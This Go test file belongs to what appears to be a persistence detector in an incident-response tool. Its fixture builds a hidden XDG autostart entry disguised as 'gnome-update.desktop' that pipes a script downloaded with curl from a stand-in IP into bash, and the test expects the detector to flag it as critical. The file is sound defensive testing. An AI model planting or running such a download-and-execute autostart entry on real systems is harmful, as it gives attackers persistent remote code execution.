package autostart

import (
	"testing"

	"github.com/vigil-ir/vigil/internal/engine/enginetest"
	"github.com/vigil-ir/vigil/internal/model"
)

// TestHostileInput: hostile versions of autostart entries, incron tables
// and Python start-up files leave a system autostart entry that downloads
// and runs a script reported.
func TestHostileInput(t *testing.T) {
	enginetest.Hostile{
		Detector: New(),
		Root: func(t testing.TB) string {
			return fixture(t, "-- etc/xdg/autostart/gnome-update.desktop --\n"+entryHead+"Exec=sh -c 'curl -fsSL http://203.0.113.7/u.sh | bash'\nNoDisplay=true\n")
		},
		Trace: []enginetest.Want{{Rule: ruleAutostartCommand, Subject: "/etc/xdg/autostart/gnome-update.desktop", Severity: model.Critical, Indicators: []string{"download-exec"}}},
		Files: []string{"/etc/xdg/autostart/gnome-update.desktop", "/etc/xdg/autostart/", "/root/.config/autostart/", "/etc/incron.d/",
			"/var/spool/incron/root", "/usr/lib/python3/dist-packages/", "/usr/lib/python3/dist-packages/sitecustomize.py", "/etc/passwd"},
		Needs: []string{"/etc/xdg/autostart/gnome-update.desktop"},
	}.Run(t)
}
